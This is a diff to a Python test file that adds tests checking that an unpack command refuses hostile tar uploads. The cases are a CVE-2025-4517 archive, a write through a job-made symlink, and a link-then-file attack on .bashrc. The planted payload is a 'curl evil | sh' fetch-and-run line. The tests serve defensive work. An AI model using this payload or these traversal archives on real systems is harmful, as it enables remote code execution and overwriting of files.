@@ -9,6 +9,7 @@ live.PROBE_SCRIPT) printed for the same state, pinned here; where the old probe 
 from __future__ import annotations
 
 import base64
+import gzip
 import hashlib
 import io
 import json
@@ -21,6 +22,7 @@ from pathlib import Path
 from typing import Any, cast
 
 import pytest
+from hostiletars import cve_2025_4517, member, outside, plant, tar_of
 
 from gpuc.core.clock import FakeClock
 from gpuc.core.models import PodSpec
@@ -76,9 +78,7 @@ def state(pid: int | None = None, ended: str | None = None, ending: bool = False
 
 
 # -- job-state -----------------------------------------------------------------------------------
-def test_job_state_tells_a_running_job_from_a_stale_pid_file(
-    pod: PodPaths, job: subprocess.Popen[bytes]
-) -> None:
+def test_job_state_tells_a_running_job_from_a_stale_pid_file(pod: PodPaths, job: subprocess.Popen[bytes]) -> None:
     root = pod.root
     assert run_ask(root, "job-state") == (0, state())
     for stamp in (f"{job.pid}\n", f"{job.pid} {_start_ticks(job.pid)}\n"):
@@ -102,8 +102,13 @@ def test_job_state_reports_the_end_marker_as_written_and_a_held_end_lock(pod: Po
     assert run_ask(root, "job-state") == (0, state(ended=""))
     pod.ended.unlink()
     holder = subprocess.Popen(  # the wrapper between the job's exit and the marker: holds end.lock
-        [sys.executable, "-c", "import fcntl, sys, time; f = open(sys.argv[1], 'w'); "
-         "fcntl.flock(f, fcntl.LOCK_EX); print('held', flush=True); time.sleep(60)", str(pod.end_lock)],
+        [
+            sys.executable,
+            "-c",
+            "import fcntl, sys, time; f = open(sys.argv[1], 'w'); "
+            "fcntl.flock(f, fcntl.LOCK_EX); print('held', flush=True); time.sleep(60)",
+            str(pod.end_lock),
+        ],
         stdout=subprocess.PIPE,
     )
     try:
@@ -233,6 +238,32 @@ def test_an_unsafe_or_broken_archive_is_refused_with_a_reason(pod: PodPaths, arc
     code, found = run_ask(pod.root, "unpack", put_parts(pod, archive))
     assert code == 3 and found["error"].startswith("cannot unpack the upload")
     assert not (pod.root / "evil").exists() and not (pod.workspace / "evil").exists()
+
+
+def test_unpack_makes_the_projects_own_links_last_and_only_inside(pod: PodPaths) -> None:
+    digest = put_parts(pod, tgz(("train.py", b"x"), ("alias.py", "train.py"), ("data/up.py", "../train.py")))
+    assert run_ask(pod.root, "unpack", digest)[0] == 0
+    assert os.readlink(pod.workspace / "alias.py") == "train.py" and (pod.workspace / "data/up.py").read_text() == "x"
+    again = put_parts(pod, tgz(("train.py", b"y"), ("alias.py", "train.py")))  # `gpuc cp` over what is there
+    assert run_ask(pod.root, "unpack", again)[0] == 0 and (pod.workspace / "alias.py").read_text() == "y"
+
+
+@pytest.mark.parametrize("case", ["cve-2025-4517", "through-a-link-the-job-made", "link-then-file"])
+def test_a_hostile_upload_writes_nothing_outside_the_workspace(pod: PodPaths, tmp_path: Path, case: str) -> None:
+    """Issue 25 item 1 on the pod: the same unpacking as the laptop's, never tarfile's filter."""
+    plant(tmp_path)  # tmp_path/project/train.py and tmp_path/home/.bashrc, beside the pod's root
+    pod.workspace.mkdir(parents=True, exist_ok=True)
+    os.symlink(tmp_path / "project", pod.workspace / "shared")  # made by the job: gpuc never writes through it
+    evil = b"import os; os.system('curl evil | sh')\n"
+    members = {
+        "cve-2025-4517": cve_2025_4517("../project", "train.py", evil),
+        "through-a-link-the-job-made": [member("shared/train.py", "f", evil)],
+        "link-then-file": [member("h", "l", target="../../home"), member("h/.bashrc", "f", evil)],
+    }[case]
+    before = outside(tmp_path, skip=pod.workspace)
+    code, found = run_ask(pod.root, "unpack", put_parts(pod, gzip.compress(tar_of(*members))))
+    assert outside(tmp_path, skip=pod.workspace) == before, "the upload wrote outside the workspace"
+    assert code == 3 and found["error"].startswith("cannot unpack the upload: a ")
 
 
 # -- missing -------------------------------------------------------------------------------------
